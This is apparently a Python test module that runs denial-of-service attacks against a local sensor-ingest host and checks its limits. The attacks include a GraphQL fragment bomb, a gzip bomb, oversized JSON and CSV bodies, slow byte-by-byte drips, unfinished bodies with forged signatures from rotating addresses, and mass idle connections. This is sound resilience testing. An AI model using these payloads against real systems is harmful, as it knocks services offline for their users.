"""Attacks that exhaust resources of the host with queries, bodies, names and connections.

Each attack is a generator over an `Attack`: it starts the attack, yields while it runs, then checks the results.
"""

import gzip
import json
import time
from collections import Counter

import host as hosts
from secured_host import ATTACKER_ADDRESS


def bomb(depth=27):
    """A query of about 1 KB whose fragments each spread the next fragment twice."""
    parts = [f"fragment f{number} on Query{{...f{number + 1} ...f{number + 1}}}" for number in range(depth)]
    return "{...f0}" + "".join(parts) + f"fragment f{depth} on Query{{__typename}}"


def graphql(attack):
    """Four clients send a query of 1 KB that expands to 134 million fields."""
    target = attack.target
    body = json.dumps({"query": bomb()})
    attack.notes.append(f"{len(body)} bytes per request")
    headers = target.headers(target.mallory)
    attack.repeat(lambda: target.send_request("POST", "/graphql", body, headers)[0], threads=4, pause=0.2)
    nested = json.dumps({"query": "{ machines(first: " + "[" * 1000 + "1" + "]" * 1000 + ") { nodes { asset } } }"})
    yield
    status, text = target.send_request("POST", "/graphql", nested, target.headers(target.mallory))
    attack.check(status in (200, 400, 413, 422), f"lists nested 1,000 deep were answered {status}")
    attack.check(status != 200 or "errors" in text, "lists nested 1,000 deep were accepted")
    errors = [code for code in attack.outcomes if isinstance(code, int) and code >= 500 and code != 503]
    attack.check(not errors, f"answers {errors}")


def sensor_count(target):
    """Number of sensors in the store."""
    return target.host.sql("SELECT count(*) AS sensors FROM sensors")[0]["sensors"]


def json_values(shape):
    """Long lists of `values`, each element of which would become a sensor."""

    def attack_with(attack):
        target = attack.target
        if shape == "numbers":
            values = [1] * 300_000
        else:
            values = {f"a{number:x}": 1 for number in range(60_000)}
        count = Counter()

        def send():
            count["n"] += 1
            if count["n"] > 6:
                attack.stopping.wait(1)
                return "waited"
            message = {"sensor_id": f"south/m{count['n']}", "values": values}
            if shape == "objects":
                names = range(count["n"] * 12_000, (count["n"] + 1) * 12_000)
                message = [{"sensor_id": f"south/m/{name:x}", "values": {"a": 1, "b": 2, "c": 3}} for name in names]
            body = json.dumps(message, separators=(",", ":"))
            return target.post(body, target.south)[0]

        attack.repeat(send)
        yield
        found = sensor_count(target)
        attack.notes.append(f"{found} sensors after the attack")
        attack.check(found < 50_000, f"six requests created {found} sensors")

    return attack_with


def csv_columns(attack):
    """A CSV with one row and 300,000 columns, each a sensor."""
    target = attack.target
    count = Counter()

    def send():
        count["n"] += 1
        if count["n"] > 4:
            attack.stopping.wait(1)
            return "waited"
        names = ",".join(f"south/c{count['n']}-{number // 100}/s{number}" for number in range(300_000))
        body = f"time,{names}\n2026-01-01T00:00:00Z{',1' * 300_000}\n"
        return target.post(body, target.south, "text/csv")[0]

    attack.repeat(send)
    yield
    found = sensor_count(target)
    attack.notes.append(f"{found} sensors after the attack")
    attack.check(found < 50_000, f"four requests created {found} sensors")


def csv_rows(attack):
    """Continuous CSV bodies just below the size limit."""
    target = attack.target
    row = "south/m/s,2026-01-01T00:00:00Z,1\n"
    body = ("sensor_id,timestamp,value\n" + row * (15_000_000 // len(row))).encode()
    attack.repeat(lambda: target.post(body, target.south, "text/csv")[0], threads=2)
    yield


def new_names(attack):
    """New sensor names in each request."""
    target = attack.target
    count = Counter()

    def send():
        count["n"] += 1
        readings = [{"sensor_id": f"south/n{count['n']}/s{number}", "values": 1} for number in range(500)]
        return target.post(readings, target.south)[0]

    attack.repeat(send, threads=2)
    yield
    attack.notes.append(f"{sensor_count(target)} sensors after {count['n']} requests of 500 names")


def gzip_bomb(attack):
    """Gzip bodies of 2 MB that decompress to 2 GB."""
    target = attack.target
    part = gzip.compress(b" " * (64 << 20), 9)
    body = part * 32
    attack.notes.append(f"{len(body)} bytes that decompress to {32 * 64} MB")
    attack.repeat(
        lambda: target.post(body, target.south, more={"Content-Encoding": "gzip"})[0], threads=4
    )
    yield
    attack.check(not any(code == 202 for code in attack.outcomes), "a body was accepted")


def request_head(length, key=None, more=""):
    """Head of a POST to the ingest route."""
    authorization = f"Authorization: Bearer {key}\r\n" if key else ""
    head = f"POST /api/v1/ingest HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n{authorization}{more}"
    return f"{head}Content-Length: {length}\r\n\r\n".encode()


def count_open(sockets):
    """Number of sockets that the host has neither answered nor closed."""
    count = 0
    for connection in sockets:
        connection.setblocking(False)
        try:
            connection.recv(1)
        except BlockingIOError:
            count += 1
        except OSError:
            pass
    return count


def dripped(attack):
    """Bodies sent byte by byte."""
    target, options = attack.target, attack.options
    sockets = []
    for _ in range(50):
        connection = target.socket()
        connection.sendall(request_head(1_000_000, target.south) + b"[")
        sockets.append(connection)
    began = time.monotonic()
    cut = Counter()

    def drip():
        for connection in list(sockets):
            try:
                connection.sendall(b" ")
            except OSError:
                cut["n"] += 1
                sockets.remove(connection)
        attack.stopping.wait(0.5)
        return "round"

    attack.repeat(drip)
    yield
    while sockets and time.monotonic() - began < options.drip:
        time.sleep(1)
        drip()
    attack.end()
    attack.notes.append(f"{cut['n']} of 50 were closed within {time.monotonic() - began:.0f} s")
    attack.check(not sockets, f"{len(sockets)} of 50 slow bodies are still open after {options.drip:.0f} s")
    for connection in sockets:
        connection.close()


def unfinished(signed):
    """60 bodies of nearly 16 MB without their last bytes, sent with an API key or with a forged signature.

    Bodies with a forged signature come from different addresses, so that no limit per address stops them.
    """

    def attack_with(attack):
        target = attack.target
        more = "" if not signed else f"X-Wheeltapper-Source: gateway\r\nX-Wheeltapper-Signature: sha256={'00' * 32}\r\n"
        key = None if signed else target.south
        sockets = []
        count = Counter()

        def send():
            count["n"] += 1
            if count["n"] > 60:
                attack.stopping.wait(1)
                return "waited"
            address = f"127.0.1.{count['n']}" if signed else ATTACKER_ADDRESS[0]
            connection = target.socket((address, 0))
            sockets.append(connection)
            connection.sendall(request_head(16_000_000, key, more))
            chunk = b" " * (1 << 18)
            for _ in range(60):
                connection.sendall(chunk)
            return "sent"

        # A key may send 64 MiB/s, which is four bodies.
        attack.repeat(send, threads=4, pause=0.2 if signed else 1)
        hosts.wait_for("60 bodies", 60, lambda: count["n"] > 60)
        yield
        attack.notes.append(f"{count_open(sockets)} of {len(sockets)} are still open")
        for connection in sockets:
            connection.close()

    return attack_with


def idle_connections(attack):
    """1,000 idle connections from one address."""
    target = attack.target
    sockets = []
    for _ in range(1000):
        try:
            sockets.append(target.socket(within=2))
        except OSError:
            attack.outcomes["rejected"] += 1
    yield
    left = count_open(sockets)
    attack.notes.append(f"{left} of 1000 are open")
    attack.check(left < 1000, "connections per address are not limited")
    for connection in sockets:
        connection.close()
